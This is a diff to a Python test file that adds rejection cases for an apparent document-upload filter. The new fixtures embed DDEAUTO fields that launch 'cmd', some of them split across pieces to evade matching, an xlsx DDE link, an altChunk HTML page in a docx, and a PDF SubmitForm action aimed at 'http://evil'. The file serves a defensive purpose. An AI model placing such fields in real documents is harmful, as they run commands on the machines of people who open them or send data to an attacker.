@@ -213,6 +213,28 @@ REFUSED = {
         "文.docx",
         lambda: docx_with("word/styles.xml", "<!DOCTYPE a>".encode("utf-16")),
     ),
+    "a field that starts a program": (
+        "文.docx",
+        lambda: docx_with("word/footer1.xml", b'<w:instrText xml:space="preserve"> DDEAUTO cmd /k calc </w:instrText>'),
+    ),
+    "such a field in pieces": (
+        "文.docx",
+        lambda: docx_with("word/a.xml", b"<w:instrText>DD</w:instrText><w:x/><w:instrText>EAUTO c</w:instrText>"),
+    ),
+    "such a field in short": ("文.docx", lambda: docx_with("word/a.xml", b'<w:fldSimple w:instr="DDE cmd"/>')),
+    "a link that starts a program in an xlsx": (
+        "表.xlsx",
+        lambda: zipped(
+            {"xl/workbook.xml": b"<w/>", "xl/externalLinks/externalLink1.xml": b"<x:ddeLink ddeService='cmd'/>"}
+        ),
+    ),
+    "a page inside a docx": (
+        "文.docx",
+        lambda: docx_with(
+            "word/_rels/document.xml.rels", b'<Relationship Type="http://x/aFChunk" Target="/word/a.html"/>'
+        ),
+    ),
+    "a PDF that sends a form": ("文.pdf", lambda: pdf(b"1 0 obj <</S/SubmitForm/F(http://evil)>> endobj")),
     "macros in a doc": ("文.doc", lambda: compound_file({"WordDocument": WORD, "Macros/VBA/dir": b"x"})),
     "macros in an xls": ("表.xls", lambda: compound_file({"Workbook": SHEET_STREAM, "_VBA_PROJECT_CUR/PROJECT": b"x"})),
     "a macro sheet in an xls": ("表.xls", lambda: compound_file({"Workbook": SHEET_STREAM + MACRO_RECORD})),
